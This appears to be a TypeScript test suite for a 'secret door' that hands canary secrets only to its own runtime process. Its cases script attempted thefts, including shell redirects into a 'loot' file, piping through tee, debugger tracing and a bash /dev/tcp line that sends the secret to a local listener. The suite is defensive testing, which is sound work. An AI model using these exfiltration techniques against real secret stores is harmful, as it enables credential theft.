import { type ChildProcess, spawn } from 'node:child_process';
import {
  chmodSync,
  copyFileSync,
  existsSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { loadNative } from '../../supervisor/process/native.ts';
import { createSecretDoor, type SecretDoor } from '../../supervisor/secret-door/serve.ts';
import { compile } from './fixtures/build.ts';

/** PID 1's side runs in this process; the runtime, what it starts and what attacks it are real processes. */
const secrets = { a: 'canary-a-51d0', b: 'canary-b-88ae' };
const folder = mkdtempSync(join(tmpdir(), 'clawden-door-'));
const socket = join(folder, 'door.sock');
const script = join(folder, 'secret-door');
const runtimeFile = new URL('fixtures/door-runtime.cjs', import.meta.url).pathname;

let handle = '';
let tracer = '';
let door: SecretDoor;
let runtime: Runtime;
let refused: string[];

beforeAll(() => {
  handle = compile('supervisor/secret-door/door.c', `-DSOCKET="${socket}"`);
  tracer = compile('test/process/fixtures/tracer.c');
});

beforeEach(async () => {
  refused = [];
  writeScript(`#!${handle}\n`);
  door = createSecretDoor({
    native: loadNative(),
    socket,
    handle,
    given: () => {},
    refused: (reason) => refused.push(reason),
  });
  await door.listen();
  runtime = await startRuntime();
  door.open(runtime.pid, secrets, answer);
});

afterEach(async () => {
  door.end();
  await runtime.end();
});

afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
  for (const file of [handle, tracer]) rmSync(file, { force: true });
});

const served = { code: 0, stdout: JSON.stringify(secrets), stderr: '' };

test('the runtime gets its secrets when it asks by itself', async () => {
  expect(await runtime.ask(script)).toEqual(served);
  expect(door.counts()).toEqual({ given: 1, refused: 0 });
});

test('the runtime gets them through its spawn broker, one process of its own', async () => {
  expect(await runtime.ask('ask', script)).toEqual(served);
  expect(refused).toEqual([]);
});

test.each([
  ['a grandchild of that broker', 'not-of-the-runtime', () => ['through', 'ask', script]],
  ['a shell that the broker starts', 'not-of-the-runtime', () => ['ask', '/bin/sh', '-c', `${script}; true`]],
  ['an orphan', 'not-of-the-runtime', () => ['/bin/sh', '-c', `(sleep 0.3; ${script}) & exit 0`]],
  ['a process under a debugger', 'traced', () => [tracer, handle]],
  ['a copy of the program', 'other-program', () => [copyOfHandle()]],
  ['whoever lends another’s stdout', 'output-elsewhere', () => ['lend', script]],
  [
    'whoever wants it in a file',
    'output-elsewhere',
    () => ['ask', '/bin/sh', '-c', `exec ${script} >${loot}`],
  ],
  [
    'whoever wants it in a pipe',
    'not-of-the-runtime',
    () => ['ask', '/bin/sh', '-c', `${script} | cat >${loot}`],
  ],
])('%s gets nothing: %s', async (_who, reason, way) => {
  const outcome = await runtime.ask(...way());
  expect(outcome.stdout).not.toContain('canary');
  await expect.poll(() => refused).toEqual([reason]);
  expect(existsSync(loot) ? readFileSync(loot, 'utf8') : '').not.toContain('canary');
  // The door is still open for the one it is for.
  expect(await runtime.ask(script)).toEqual(served);
});

const loot = join(folder, 'loot');

test.each([
  ['pipes the answer through a shell', 'not-of-the-runtime', () => `${handle} "$0" | tee ${loot}`],
  ['lets the program write into a file', 'output-elsewhere', () => `exec ${handle} "$0" >${loot}`],
])('a script in the place of ours that %s gets nothing: %s', async (_what, reason, body) => {
  writeScript(`#!/bin/sh\n${body()}\n`);
  expect((await runtime.ask('ask', script)).stdout).not.toContain('canary');
  expect(refused).toEqual([reason]);
  expect(existsSync(loot) ? readFileSync(loot, 'utf8') : '').not.toContain('canary');
});

test('a script that sends the answer over the network gets nothing', async () => {
  const got: Buffer[] = [];
  const thief = createServer((connection) => connection.on('data', (data) => got.push(data))).listen(0);
  const { port } = thief.address() as { port: number };
  writeScript(`#!/bin/bash\nexec ${handle} "$0" >/dev/tcp/127.0.0.1/${port}\n`);
  expect((await runtime.ask('ask', script)).stdout).not.toContain('canary');
  expect(refused).toEqual(['output-elsewhere']);
  expect(Buffer.concat(got).toString()).not.toContain('canary');
  thief.close();
});

test('a second request gets nothing, and after the door was closed nobody does', async () => {
  expect(await runtime.ask(script)).toEqual(served);
  expect(await runtime.ask(script)).toMatchObject({ code: 1, stderr: 'secret door: refused: closed\n' });
  door.open(runtime.pid, secrets, answer);
  door.close('up');
  expect(await runtime.ask(script)).toMatchObject({ code: 1, stdout: '' });
  // Once per opening, however often somebody knocks; all of them are counted.
  for (let knocks = 0; knocks < 5; knocks += 1) await runtime.ask(script);
  expect(refused).toEqual(['closed', 'closed']);
  expect(door.counts()).toEqual({ given: 1, refused: 7 });
});

test('a program that was not started for these secrets gets nothing', async () => {
  const other = await startRuntime();
  expect((await other.ask(script)).stdout).toBe('');
  expect(refused).toEqual(['not-of-the-runtime']);
  await other.end();
});

test('whoever speaks to the socket without the program gets nothing, and hinders nobody', async () => {
  const said = await new Promise<string>((resolve) => {
    const client = connect(socket, () => client.write('{"ids":["a"]}'));
    client.on('data', (data) => resolve(data.toString()));
    // Refused unread.
    client.on('error', () => {});
  });
  expect(said).toBe('refused: other-program');
  const silent = Array.from({ length: 20 }, () => connect(socket));
  for (const client of silent) client.on('error', () => {});
  expect(await runtime.ask(script)).toEqual(served);
  for (const client of silent) client.destroy();
});

test('a socket that somebody put in the place of ours is gone at the next start', async () => {
  rmSync(socket);
  const thief = createServer((connection) => connection.end('mine')).listen(socket);
  await door.listen();
  door.open(runtime.pid, secrets, answer);
  expect(await runtime.ask(script)).toEqual(served);
  thief.close();
});

function answer(request: string, left: Readonly<Record<string, string>>): ReturnType<Answer> {
  const { ids } = JSON.parse(request) as { ids: string[] };
  const given = ids.filter((id) => id in left);
  return { text: JSON.stringify(Object.fromEntries(given.map((id) => [id, left[id]]))), given };
}

type Answer = Parameters<SecretDoor['open']>[2];

function writeScript(text: string): void {
  rmSync(script, { force: true });
  rmSync(loot, { force: true });
  writeFileSync(script, text, { mode: 0o500 });
}

function copyOfHandle(): string {
  const copy = join(folder, 'copy');
  copyFileSync(handle, copy);
  chmodSync(copy, 0o755);
  return copy;
}

interface Runtime {
  readonly pid: number;
  readonly ask: (...way: readonly string[]) => Promise<Outcome>;
  readonly end: () => Promise<void>;
}

interface Outcome {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function startRuntime(): Promise<Runtime> {
  const child: ChildProcess = spawn(process.execPath, [runtimeFile], { stdio: ['pipe', 'pipe', 'inherit'] });
  const lines = createInterface({ input: child.stdout as NodeJS.ReadableStream })[Symbol.asyncIterator]();
  await lines.next();
  return {
    pid: child.pid ?? 0,
    ask: async (...way) => {
      child.stdin?.write(`${JSON.stringify(way)}\n`);
      return JSON.parse(String((await lines.next()).value)) as Outcome;
    },
    end: () =>
      new Promise((resolve) => {
        child.once('exit', () => resolve());
        child.kill('SIGKILL');
      }),
  };
}
